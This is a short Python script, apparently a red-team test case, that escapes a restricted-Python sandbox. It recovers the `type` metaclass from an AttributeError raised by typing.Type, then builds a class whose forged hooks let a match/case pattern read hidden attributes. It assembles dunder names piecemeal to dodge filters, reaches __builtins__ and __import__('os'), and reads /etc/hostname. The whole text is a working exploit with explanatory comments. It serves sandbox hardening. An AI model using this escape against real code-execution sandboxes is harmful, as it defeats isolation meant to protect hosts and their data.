# family: red team, round 8 (attributeerror_obj_typing_type_metaclass)
# typing.Type relays a missing public attribute to its origin, the metaclass type; the AttributeError
# carries the object it failed on in its public .obj. The module chain check stops after typing.Type, so
# typing.Type.<anything public> is accepted, and e.obj hands out `type` itself. type(name, (ABC,), ns)
# then builds a class with __subclasshook__/__match_args__ at run time: a class pattern reads any attribute.
import abc
import typing


def _d(word):
    u = "_"
    return u + u + word + u + u


def metaclass():
    try:
        typing.Type.nothing_here
    except AttributeError as e:
        return e.obj


def read(obj, attribute):
    meta = metaclass()
    probe = meta("Probe", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
